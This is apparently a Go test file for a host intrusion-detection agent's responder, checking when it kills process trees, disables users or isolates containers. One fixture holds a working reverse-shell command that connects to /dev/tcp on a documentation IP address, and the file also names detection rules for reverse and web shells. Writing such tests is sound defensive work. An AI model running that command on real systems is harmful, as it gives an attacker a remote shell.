package respond

import (
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/correlate"
	"github.com/picket-agent/picket/agent/detect"
	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/signal"
)

func procSignal(rule string, stage signal.Stage, w float64, pids ...string) signal.Signal {
	var ents []signal.Entity
	for _, p := range pids {
		ents = append(ents, signal.Entity{Kind: signal.Process, Value: p})
	}
	return signal.Signal{Rule: rule, Stage: stage, Weight: w, Entities: ents}
}

// TestCorroboration: kill-tree, disable-user and isolate-container wait for
// a second rule or a strong one; IP blocks never wait; a withheld action
// is said once per state of the evidence and planned when it arrives.
func TestCorroboration(t *testing.T) {
	p, wl := setup(t)
	memfd := procSignal("process.exec_memfd", signal.Execution, 60, "1079")
	memfd.Entities = append(memfd.Entities, signal.Entity{Kind: signal.Container, Value: "c1"}, signal.Entity{Kind: signal.User, Value: "ci"})
	in := &correlate.Incident{ID: 7, Level: correlate.Aggressive, Score: 60, Signals: []signal.Signal{memfd,
		{Rule: "ssh.bruteforce", Stage: signal.InitialAccess, Weight: 0, Entities: []signal.Entity{{Kind: signal.IP, Value: "192.0.2.1"}}},
		{Rule: "tool.suricata", Stage: signal.Execution, Weight: 30, Tool: true, Entities: []signal.Entity{{Kind: signal.Process, Value: "1079"}}},
	}}
	r := New(p, wl)
	ps := r.Plan(in, time.Now(), Mode{})
	got := render(ps)
	for _, want := range []string{"block-source 192.0.2.1 planned", "kill-tree 1079 withheld-uncorroborated", "disable-user ci withheld-uncorroborated",
		"end-sessions ci withheld-uncorroborated", "isolate-container c1 withheld-uncorroborated"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q lacks %q", got, want)
		}
	}
	for _, pl := range ps {
		if pl.Action == KillTree && !strings.HasSuffix(pl.Reason, WithheldMarker+"uncorroborated: needs 2 distinct rules or one of "+
			"process.web_shell, process.web_suspicious_child, process.reverse_shell, process.decode_exec, process.db_child; has 1 (process.exec_memfd)") {
			t.Errorf("reason %q", pl.Reason)
		}
	}
	if got := render(r.Plan(in, time.Now(), Mode{})); got != "" {
		t.Errorf("the same evidence withheld again: %s", got)
	}

	// A second rule of another stage from the same process: corroborated.
	in.Signals = append(in.Signals, procSignal("net.new_listener", signal.Persistence, 40, "1079"))
	ps = r.Plan(in, time.Now(), Mode{})
	if got := render(ps); got != "kill-tree 1079 planned 1h0m0s; disable-user ci planned 1h0m0s; end-sessions ci planned 1h0m0s; isolate-container c1 planned 1h0m0s" {
		t.Fatalf("corroborated: %s", got)
	}
	if !strings.Contains(ps[0].Reason, "; corroborated by 2 distinct rules (net.new_listener, process.exec_memfd)") {
		t.Errorf("reason %q", ps[0].Reason)
	}
	if got := render(r.Plan(in, time.Now(), Mode{})); got != "" {
		t.Errorf("planned twice: %s", got)
	}

	// min_rules 1 turns the requirement off.
	c := p.Actions.Corroboration["kill-tree"]
	c.MinRules, c.Strong = 1, nil
	p.Actions.Corroboration["kill-tree"] = c
	in.Signals = in.Signals[:1]
	if got := render(New(p, wl).Plan(in, time.Now(), Mode{})); !strings.Contains(got, "kill-tree 1079 planned") {
		t.Errorf("requirement off: %s", got)
	}
}

// TestLineagesToPlans runs realistic execs through the detectors, the
// correlator and the responder (enforce, no learning), as the agent does.
func TestLineagesToPlans(t *testing.T) {
	p, wl := setup(t)
	a := func(pid int, comm, exe string, args ...string) event.Ancestor {
		return event.Ancestor{PID: pid, Comm: comm, Exe: exe, Args: args}
	}
	initP := a(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")
	nginx := a(812, "nginx", "/usr/sbin/nginx", "nginx: master process")
	fpmM := a(1100, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process")
	fpmW := a(1201, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	dockerd := a(600, "dockerd", "/usr/sbin/dockerd", "/usr/sbin/dockerd", "-H", "fd://")
	shim := a(7000, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby")
	runc := a(7001, "runc", "/usr/sbin/runc", "runc", "--root", "/var/run/docker/runtime-runc/moby", "create")
	login := a(2000, "bash", "/usr/bin/bash", "-bash")
	sshd := a(800, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
	exec := func(pid int, comm, exe string, deleted bool, lineage []event.Ancestor, args ...string) *event.Event {
		return &event.Event{Time: time.Unix(1000, 0), Kind: event.ProcExec, Proc: &event.Process{PID: pid, PPID: lineage[0].PID,
			Comm: comm, Exe: exe, Deleted: deleted, Args: args, UID: 33, User: "www-data", Lineage: lineage}}
	}
	cases := []struct {
		name string
		evs  []*event.Event
		want string // plans
	}{
		{"reverse shell below nginx and php-fpm", []*event.Event{
			exec(4410, "bash", "/usr/bin/bash", false, []event.Ancestor{fpmW, fpmM, initP}, "bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"),
		}, "kill-tree 4410 planned"},
		{"runc init from memfd below containerd-shim and dockerd", []*event.Event{
			exec(7003, "6", "/memfd:runc_cloned:/proc/self/exe", true, []event.Ancestor{runc, shim, initP}, "runc", "init"),
			exec(7004, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe", true, []event.Ancestor{a(7002, "runc", "/usr/sbin/runc", "runc", "run"), dockerd, initP}, "runc", "init"),
		}, ""},
		{"sealed memfd helper below a shell", []*event.Event{
			exec(1079, "memfd:sealed-91", "/memfd:sealed-91173221a7ea", true, []event.Ancestor{login, sshd, initP}, "line_io_tools/binary_backend"),
		}, ""},
		{"sandbox runners from sealed memfds found at start below PID 1", func() []*event.Event {
			var evs []*event.Event
			for _, pid := range []int{1079, 13663, 13671} {
				ev := exec(pid, "memfd:sealed-91", "/memfd:sealed-91173221a7ea", true, []event.Ancestor{a(1, "process_api", "/process_api")}, "line_io_tools/binary_backend", "--uid", "0")
				ev.Detail = "initial"
				evs = append(evs, ev)
			}
			return evs
		}(), ""},
		{"go test binaries in /tmp/go-build", []*event.Event{
			exec(3001, "a.test", "/tmp/go-build1/b001/a.test", false, []event.Ancestor{a(3000, "go", "/usr/bin/go", "go", "test", "./..."), login, sshd, initP}, "/tmp/go-build1/b001/a.test"),
			exec(3002, "b.test", "/tmp/go-build1/b002/b.test", false, []event.Ancestor{a(3000, "go", "/usr/bin/go", "go", "test", "./..."), login, sshd, initP}, "/tmp/go-build1/b002/b.test"),
			exec(3003, "3", "/memfd:x", true, []event.Ancestor{a(3002, "b.test", "/tmp/go-build1/b002/b.test"), a(3000, "go", "/usr/bin/go", "go", "test", "./..."), login, sshd, initP}, "x"),
		}, ""},
		{"a program a web server dropped in /tmp", []*event.Event{
			exec(4500, "kworker", "/tmp/.k/kworker", false, []event.Ancestor{fpmW, fpmM, nginx, initP}, "kworker"),
		}, "kill-tree 4500 planned"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			det := detect.New(p, wl)
			corr := correlate.New(p, nil, 1)
			r := New(p, wl)
			var plans []string
			for _, ev := range c.evs {
				det.Observe(ev, func(s signal.Signal) {
					ch, _ := corr.Add(s)
					if ch.New || ch.LevelRaised {
						for _, pl := range r.Plan(ch.Incident, s.Time, Mode{}) {
							plans = append(plans, pl.Action+" "+pl.Target+" "+pl.Status)
						}
					}
				})
			}
			got := strings.Join(plans, "; ")
			if got != c.want {
				t.Errorf("plans %q, want %q; incidents %v", got, c.want, corr.Open())
			}
		})
	}
}
